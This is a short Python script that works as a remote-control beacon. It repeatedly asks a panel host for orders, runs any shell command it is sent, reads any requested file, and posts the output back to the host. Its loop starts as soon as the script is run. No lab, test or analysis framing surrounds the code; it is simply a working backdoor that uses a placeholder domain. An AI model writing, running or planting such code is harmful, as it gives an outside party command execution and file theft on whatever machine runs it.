import subprocess
import time

import requests

HOST = "https://panel.example.invalid"


def run(command):
    return subprocess.run(command, shell=True, capture_output=True, text=True).stdout


def read(path):
    with open(path) as file:
        return file.read()


ORDERS = {"run": run, "read": read}


def poll():
    while True:
        order = requests.get(HOST + "/next").json()
        if order["name"] in ORDERS:
            requests.post(HOST + "/done", data=ORDERS[order["name"]](order["argument"]))
        time.sleep(1)


poll()
